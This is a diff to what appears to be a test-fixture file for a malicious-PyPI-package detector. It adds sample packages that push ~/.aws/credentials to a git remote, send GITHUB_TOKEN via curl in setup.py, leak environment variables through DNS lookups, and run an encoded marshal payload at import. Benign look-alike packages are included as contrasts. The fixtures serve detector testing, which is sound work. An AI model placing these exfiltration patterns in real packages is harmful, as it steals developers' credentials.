@@ -282,6 +282,37 @@ export const PYPI22_EXFIL: readonly PypiVariant[] = [
   }),
 ];
 
+/** More shapes of the same behaviours (a second pass over this round's list). */
+export const PYPI22_MORE: readonly PypiVariant[] = [
+  // GitPython: the AWS credentials committed and pushed with the library, not a git process.
+  sdist('repo-backup', {
+    'repo_backup/__init__.py':
+      "import os, shutil, tempfile\nimport git\n\n_d = tempfile.mkdtemp()\n_r = git.Repo.clone_from('https://git.repo-backup-cdn.example/b.git', _d)\nshutil.copy(os.path.expanduser('~/.aws/credentials'), os.path.join(_d, 'c'))\n_r.index.add(['c'])\n_r.index.commit('b')\n_r.remote(name='origin').push()\n",
+  }),
+  // A function object made from marshalled code through type(lambda: 0), at import.
+  sdist('lazyload3', {
+    'lazyload3/__init__.py':
+      "import marshal, zlib, base64\n\n_C = 'eJwrKMrMK9FQL8nILFYozy/NSVEoKs1T1wQAZ9MIRQ=='\ntype(lambda: 0)(marshal.loads(zlib.decompress(base64.b64decode(_C))), globals())()\n",
+  }),
+  // The GitHub token in a curl header, to another host, from setup.py.
+  sdist('gh-stars', {
+    'setup.py':
+      "import os, subprocess\nfrom setuptools import setup\n\n_t = os.environ.get('GITHUB_TOKEN', '')\nsubprocess.run(['curl', '-s', '-H', 'Authorization: token ' + _t, 'https://stars.gh-stars-cache.example/v1/sync'])\nsetup(name='gh-stars', version='1.0.0')\n",
+  }),
+  // Every environment value hex-encoded into DNS names, from a thread at import.
+  sdist('envdns', {
+    'envdns/__init__.py':
+      "import os, socket, threading\n\n\ndef _leak():\n    for k, val in os.environ.items():\n        try:\n            socket.gethostbyname('{}.{}.e.envdns-stats.example'.format(val.encode().hex()[:50], k.lower()))\n        except OSError:\n            pass\n\n\nthreading.Thread(target=_leak, daemon=True).start()\n",
+  }),
+];
+
+export const PYPI22_MORE_TWINS: readonly PypiVariant[] = [
+  // GitPython release helper: tags and pushes the user's repository.
+  sdist('gittag', {
+    'gittag/__init__.py': "import git\n\n\ndef tag(path, version):\n    r = git.Repo(path)\n    r.create_tag(f'v{version}')\n    r.remote().push(tags=True)\n",
+  }),
+];
+
 export const PYPI22_EXFIL_TWINS: readonly PypiVariant[] = [
   // A DNS helper that resolves a service name built from its region setting.
   sdist('svcresolve', {
@@ -300,5 +331,20 @@ export const PYPI22_EXFIL_TWINS: readonly PypiVariant[] = [
   }),
 ];
 
-export const PYPI22_VARIANTS: readonly PypiVariant[] = [...PYPI22_AUTO, ...PYPI22_TOKEN, ...PYPI22_OBFUSCATION, ...PYPI22_IMPORT, ...PYPI22_SPAWN, ...PYPI22_EXFIL];
-export const PYPI22_TWINS: readonly PypiVariant[] = [...PYPI22_AUTO_TWINS, ...PYPI22_TOKEN_TWINS, ...PYPI22_OBFUSCATION_TWINS, ...PYPI22_IMPORT_TWINS, ...PYPI22_SPAWN_TWINS, ...PYPI22_EXFIL_TWINS];
+export const PYPI22_VARIANTS: readonly PypiVariant[] = [...PYPI22_AUTO, ...PYPI22_TOKEN, ...PYPI22_OBFUSCATION, ...PYPI22_IMPORT, ...PYPI22_SPAWN, ...PYPI22_EXFIL, ...PYPI22_MORE];
+export const PYPI22_TWINS: readonly PypiVariant[] = [...PYPI22_AUTO_TWINS, ...PYPI22_TOKEN_TWINS, ...PYPI22_OBFUSCATION_TWINS, ...PYPI22_IMPORT_TWINS, ...PYPI22_SPAWN_TWINS, ...PYPI22_EXFIL_TWINS, ...PYPI22_MORE_TWINS];
+
+// ---- request_command_exec and key_param_exfil: the honest shapes the decision weighed ---------------------
+
+export const PYPI22_RULE3_TWINS: readonly PypiVariant[] = [
+  // A webhook deploy server: a request chooses one of its fixed commands by name.
+  sdist('hookrunner', {
+    'hookrunner/app.py':
+      "import hmac, subprocess\nfrom flask import Flask, request, abort\n\napp = Flask(__name__)\nCOMMANDS = {'pull': ['git', 'pull', '--ff-only'], 'restart': ['systemctl', '--user', 'restart', 'site']}\n\n\n@app.post('/hook')\ndef hook():\n    if not hmac.compare_digest(request.headers.get('X-Sig', ''), app.config['SECRET']):\n        abort(403)\n    cmd = COMMANDS[request.json['action']]\n    subprocess.run(cmd, check=True)\n    return 'ok'\n",
+  }),
+  // An API wrapper named unlike its service: the caller's key goes to the service's host name.
+  sdist('moviedb-lite', {
+    'moviedb_lite/__init__.py':
+      "import requests\n\n\ndef search(query, api_key):\n    return requests.get('https://api.themoviedb.example/3/search/movie', params={'api_key': api_key, 'query': query}, timeout=10).json()\n",
+  }),
+];
